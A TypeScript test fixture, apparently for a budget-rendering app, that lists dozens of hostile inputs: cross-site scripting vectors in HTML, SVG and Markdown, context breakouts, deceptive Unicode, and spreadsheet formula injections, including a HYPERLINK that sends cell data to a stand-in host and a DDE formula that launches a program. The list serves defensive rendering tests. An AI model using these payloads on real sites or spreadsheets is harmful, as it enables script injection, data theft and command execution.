/** What somebody who wishes a reader ill may have written into a budget. */
export interface HostilePayload {
  readonly name: string;
  readonly text: string;
}

/** A script that got to run leaves this name on the global object. */
export const hostileMark = 'hostileRan';

/** What was loaded or sent would go there; the name exists nowhere. */
export const hostileHost = 'hostile.invalid';

const run = `globalThis.${hostileMark}=1`;
const away = `https://${hostileHost}`;

/** Payloads of one line without tabs or pipes, so that each may stand in a cell of any table as well as in any line. */
export const hostilePayloads: readonly HostilePayload[] = [
  // Elements that run scripts.
  { name: 'script', text: `<script>${run}</script>` },
  { name: 'script from elsewhere', text: `<script src="${away}/a.js"></script>` },
  { name: 'script without its end', text: `<script>${run}//` },
  { name: 'script in capitals', text: `<ScRiPt >${run}</sCrIpT >` },
  { name: 'script behind a slash', text: `<script/x>${run}</script/x>` },
  { name: 'module', text: `<script type="module">import("${away}/m.js")</script>` },
  { name: 'script in a script', text: `<scr<script>ipt>${run}</scr</script>ipt>` },
  { name: 'svg onload', text: `<svg/onload=${run}>` },
  { name: 'svg script', text: `<svg><script href="data:text/javascript,${run}"/></svg>` },
  { name: 'svg animation', text: `<svg><a><animate attributeName=href values=javascript:${run} /><text y=20>X</text></a></svg>` },
  {
    name: 'svg foreign object',
    text: `<svg><foreignObject><iframe srcdoc="<script>parent.${hostileMark}=1</script>"></foreignObject></svg>`,
  },
  { name: 'svg use', text: `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"></svg>` },
  { name: 'math', text: `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${run}>">` },
  // Handlers.
  { name: 'img onerror', text: `<img src=x onerror=${run}>` },
  { name: 'img onerror out of an attribute', text: `"><img src=x onerror="${run}">` },
  { name: 'img onerror out of a quoted attribute', text: `'><img src=x onerror='${run}'>` },
  { name: 'handler out of an attribute', text: `" onmouseover="${run}" autofocus onfocus="${run}" x="` },
  { name: 'details ontoggle', text: `<details open ontoggle=${run}>合计</details>` },
  { name: 'video onerror', text: `<video><source onerror="${run}">` },
  { name: 'body onload', text: `<body onload=${run}>` },
  { name: 'input autofocus', text: `<input autofocus onfocus=${run}>` },
  { name: 'marquee', text: `<marquee onstart=${run}>合计</marquee>` },
  { name: 'animation end', text: `<p style="animation:x 1ms" onanimationstart="${run}">合计</p>` },
  // Frames, and other elements that load.
  { name: 'iframe', text: `<iframe src="${away}/f"></iframe>` },
  { name: 'iframe javascript', text: `<iframe src="javascript:parent.${hostileMark}=1"></iframe>` },
  { name: 'iframe srcdoc', text: `<iframe srcdoc="&lt;script&gt;parent.${hostileMark}=1&lt;/script&gt;"></iframe>` },
  { name: 'object', text: `<object data="${away}/o.svg"></object><embed src="${away}/e.svg">` },
  { name: 'stylesheet', text: `<link rel=stylesheet href="${away}/s.css"><link rel=prefetch href="${away}/p">` },
  { name: 'meta refresh', text: `<meta http-equiv="refresh" content="0;url=${away}/r">` },
  { name: 'base', text: `<base href="${away}/"><a href="x">合计</a>` },
  { name: 'form', text: `<form action="${away}/post"><button autofocus>合计</button></form>` },
  { name: 'form action', text: `<button form=x formaction="javascript:${run}">合计</button>` },
  // Links and images of Markdown.
  { name: 'javascript link', text: `[合计](javascript:${run})` },
  { name: 'javascript link in disguise', text: `[合计](JaVaScRiPt&colon;${run})` },
  { name: 'javascript link behind a control character', text: `[合计](<\u0001javascript:${run}>)` },
  { name: 'javascript autolink', text: `<javascript:${run}>` },
  { name: 'data link', text: `[合计](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)` },
  { name: 'vbscript link', text: `[合计](vbscript:msgbox)` },
  { name: 'command link', text: '[合计](command:workbench.action.terminal.new)' },
  { name: 'file link', text: '[合计](file:///etc/passwd) [合计](vscode://settings)' },
  { name: 'link with a handler in its title', text: `[合计](${away} "x\\" onmouseover=\\"${run}")` },
  { name: 'image', text: `![合计](${away}/pixel.png)` },
  { name: 'image with a handler', text: `![" onerror="${run}](x)` },
  { name: 'data image', text: `![合计](data:image/svg+xml,<svg/onload=${run}>)` },
  // Out of comments, templates, JSON, style sheets and cells.
  { name: 'out of a comment', text: `--><script>${run}</script><!--` },
  { name: 'conditional comment', text: `<!--[if gte IE 4]><script>${run}</script><![endif]-->` },
  { name: 'CDATA', text: `<![CDATA[<script>${run}</script>]]>` },
  { name: 'out of a title', text: `</title></style></textarea></noscript></template><script>${run}</script>` },
  { name: 'out of JSON', text: `</script><script>${run}</script>{"a":1}\\u003cscript\\u003e` },
  { name: 'template literal', text: `\`\${${run}}\` \${${run}} {{constructor.constructor('${run}')()}} <%= ${run} %>` },
  { name: 'out of a table', text: `</td></tr></table><script>${run}</script>` },
  { name: 'style element', text: `<style>@import "${away}/i.css";*{background:url(${away}/b)}</style>` },
  { name: 'style attribute', text: `<p style="background:url(${away}/b);position:fixed;inset:0">合计</p>` },
  { name: 'out of a style sheet', text: `;}*{background:url(${away}/c)}/*` },
  {
    name: 'clobbered names',
    text: '<form id=document name=location><input name=attributes id=__proto__></form> __proto__ constructor toString',
  },
  // Characters.
  { name: 'entities', text: `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62;` },
  { name: 'wide brackets', text: `＜script＞${run}＜/script＞ \uFF1Cimg src=x\uFF1E` },
  { name: 'bidirectional overrides', text: '合计\u202E00.001\u202C \u2066<b>\u2069 \u200F' },
  { name: 'nothing to see', text: '\u200B\u200C\u2060\uFEFF\u00AD' },
  { name: 'null and controls', text: `\u0000<\u0000script>\u0007\u001B[31m\u007F${run}` },
  { name: 'half a character', text: '\uD800合计\uDC00<img src=x>' },
  { name: 'line separators', text: `合计\u2028<script>${run}</script>\u2029\u0085` },
  { name: 'formula', text: `=HYPERLINK("${away}?x="&A1,"合计")` },
  { name: 'formula that runs a program', text: "=cmd' /C calc'!A0" },
  { name: 'very long', text: `<b>${'合'.repeat(5000)}${'<i>'.repeat(500)}` },
];
